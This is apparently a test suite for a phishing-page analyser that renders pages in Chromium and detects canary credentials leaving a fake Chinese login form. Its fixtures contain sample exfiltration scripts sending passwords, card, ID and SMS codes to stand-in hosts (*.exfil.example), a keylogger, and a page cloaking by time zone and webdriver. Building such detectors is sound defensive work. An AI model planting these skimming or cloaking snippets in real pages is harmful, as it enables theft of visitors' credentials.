/**
 * The render's visitor and profiles (docs/render.md "The visitor", "As a visitor arrives") in
 * Debian's real Chromium: canaries typed into the page and found in what it sends by fetch, XHR,
 * sendBeacon, WebSocket, an image beacon and a form, plain and encoded; a page that cloaks by time
 * zone and webdriver; a redirect after 30 s of fake time; a page whose load never comes; storage
 * and cookies that work as on the live site; emoji drawn in colour.
 */
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RenderBrowser } from '../src/render/browser.js';
import { CANARIES } from '../src/render/canaries.js';
import { renderPage } from '../src/render/render-page.js';

const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
let browser: RenderBrowser;
let next = 1;

beforeAll(() => {
  browser = new RenderBrowser(CHROMIUM, { pagesBeforeRestart: () => 50 });
});
afterAll(() => browser.close());

const page = (body: string, script = '') =>
  `<!doctype html><html><head><meta charset="utf-8"><title>测试</title></head><body>${body}<script>${script}</script></body></html>`;

async function render(files: Record<string, string>, loadTimeoutMs = 5_000) {
  const map = new Map(
    Object.entries(files).map(([path, text]) => {
      const body = Buffer.from(text);
      const mime = path.endsWith('.html') ? 'text/html; charset=utf-8' : 'text/javascript';
      return [path, { path, size: body.length, mime_type: mime, sha256: path, body }] as const;
    }),
  );
  return renderPage(
    await browser.get(),
    {
      id: next++,
      entryFile: 'index.html',
      lookup: async (p) => map.get(p) as never,
      read: async (f) => Readable.from([(f as unknown as { body: Buffer }).body]),
    },
    { allowPublicAssets: false, loadTimeoutMs },
  );
}

const LOGIN =
  '<form id="f"><input name="username" placeholder="账号"><input type="password" name="pwd" placeholder="密码">' +
  '<input name="card" placeholder="银行卡号"><input name="idno" placeholder="身份证号"><input type="tel" name="mobile" placeholder="手机号">' +
  '<input name="sms" placeholder="短信验证码"><button type="submit">登录</button></form>';

describe('the visitor', () => {
  it('finds canaries sent by fetch, XHR, sendBeacon, WebSocket and an image beacon, plain and encoded', async () => {
    const script = `
      const v = (n) => document.querySelector('[name=' + n + ']').value;
      document.getElementById('f').addEventListener('submit', (e) => {
        e.preventDefault();
        fetch('https://fetch.exfil.example/c', { method: 'POST', body: JSON.stringify({ p: v('pwd') }) });
        const x = new XMLHttpRequest(); x.open('POST', 'https://xhr.exfil.example/x'); x.send('card=' + encodeURIComponent(v('card')));
        navigator.sendBeacon('https://beacon.exfil.example/b', btoa(JSON.stringify({ id: v('idno') })));
        new Image().src = 'https://img.exfil.example/i.gif?d=' + [...v('mobile')].map((c) => c.charCodeAt(0).toString(16)).join('');
        const ws = new WebSocket('wss://ws.exfil.example/s'); ws.onopen = () => ws.send(JSON.stringify({ code: v('sms') }));
        fetch('/api/login', { method: 'POST', body: v('username') });
      });`;
    const { observations: obs } = await render({ 'index.html': page(LOGIN, script) });
    const leak = (kind: string) => obs.leaks.find((l) => l.kind === kind);
    expect(leak('password')).toMatchObject({
      host: 'fetch.exfil.example',
      field: 'pwd',
      external: true,
      encoding: 'plain',
    });
    expect(leak('card')).toMatchObject({ host: 'xhr.exfil.example', field: 'card', external: true });
    expect(leak('id_number')).toMatchObject({
      host: 'beacon.exfil.example',
      encoding: 'base64',
      via: 'ping',
    });
    expect(leak('phone')).toMatchObject({ host: 'img.exfil.example', encoding: 'hex', via: 'image' });
    expect(leak('sms_code')).toMatchObject({ host: 'ws.exfil.example', via: 'websocket' });
    // The site's own address is where a login demo sends its form: recorded, not external.
    expect(leak('username')).toMatchObject({ external: false, field: 'username' });
    expect(obs.profiles).toEqual(['desktop', 'phone']);
  });

  it('finds a key-by-key logger and a form posted to another host', async () => {
    const script = `document.addEventListener('keydown', (e) => { new Image().src = 'https://keys.exfil.example/k?c=' + encodeURIComponent(e.key); });`;
    const form =
      '<form action="https://post.exfil.example/login.php" method="post"><input type="password" name="pass"><input type="submit" value="确定"></form>';
    const { observations: obs } = await render({ 'index.html': page(form, script) });
    expect(obs.leaks).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'password', host: 'keys.exfil.example', encoding: 'keys' }),
        expect.objectContaining({
          kind: 'password',
          host: 'post.exfil.example',
          via: 'document',
          field: 'pass',
        }),
      ]),
    );
  });

  it('arrives as a visitor in China: a page cloaking by time zone and webdriver shows its real face', async () => {
    const script = `
      const real = Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai' && navigator.webdriver === false
        && !/Headless/.test(navigator.userAgent) && navigator.languages.length > 1 && navigator.languages[0] === 'zh-CN';
      if (real) fetch('https://cloaked.exfil.example/hit', { method: 'POST', body: 'x' });`;
    const { observations: obs } = await render({ 'index.html': page('<h1>你好</h1>', script) });
    expect(obs.externalRequests.map((r) => r.host)).toContain('cloaked.exfil.example');
  });

  it('lets time pass: a redirect after 30 s of fake time is seen', async () => {
    const script = `setTimeout(() => { location.href = 'https://late.redirect.example/landing'; }, 30000);`;
    const started = Date.now();
    const { observations: obs } = await render({ 'index.html': page('<h1>稍等</h1>', script) });
    expect(obs.navigations).toEqual([
      expect.objectContaining({ host: 'late.redirect.example', external: true }),
    ]);
    // Fake time: the render did not wait 30 real seconds.
    expect(Date.now() - started).toBeLessThan(30_000);
  });

  it('runs the page as the live site: storage and cookies work, no script error', async () => {
    const script = `localStorage.setItem('a', '1'); sessionStorage.setItem('b', '2'); document.cookie = 'c=3';
      document.querySelector('h1').textContent = localStorage.getItem('a') + document.cookie;`;
    const { observations: obs } = await render({ 'index.html': page('<h1>存储</h1>', script) });
    expect(obs.consoleErrors).toEqual([]);
  });

  it('pictures a page whose load never comes at the deadline, with what it did', async () => {
    // The page holds the renderer past the deadline, then sends: the picture and the request come anyway.
    const script = `const t = performance.now(); while (performance.now() - t < 3500) {}
      document.body.style.background = '#c00'; fetch('https://after.stall.example/x', { method: 'POST', body: 'y' });`;
    const result = await render({ 'index.html': page('<h1>卡住</h1>', script) }, 2_000);
    expect(result.observations.loadTimedOut).toBe(true);
    expect(result.screenshot.length).toBeGreaterThan(0);
    expect(result.observations.externalRequests.map((r) => r.host)).toContain('after.stall.example');
  });

  it('draws emoji in colour, not as boxes', async () => {
    const { screenshot } = await render({
      'index.html': page('<p style="font-size:200px;margin:0;line-height:1">😀</p>'),
    });
    const { data, info } = await sharp(screenshot)
      .extract({ left: 0, top: 0, width: 300, height: 300 })
      .raw()
      .toBuffer({ resolveWithObject: true });
    // A colour glyph has saturated pixels (the yellow face); a missing one is a grey box or nothing.
    let coloured = 0;
    for (let i = 0; i < data.length; i += info.channels) {
      const [r = 0, g = 0, b = 0] = [data[i], data[i + 1], data[i + 2]];
      if (Math.max(r, g, b) - Math.min(r, g, b) > 80) coloured++;
    }
    expect(coloured).toBeGreaterThan(1000);
  });

  it('canaries are what their fields expect', () => {
    expect(CANARIES.card).toMatch(/^\d{16}$/);
    expect(CANARIES.id_number).toMatch(/^\d{17}[\dX]$/);
  });
});
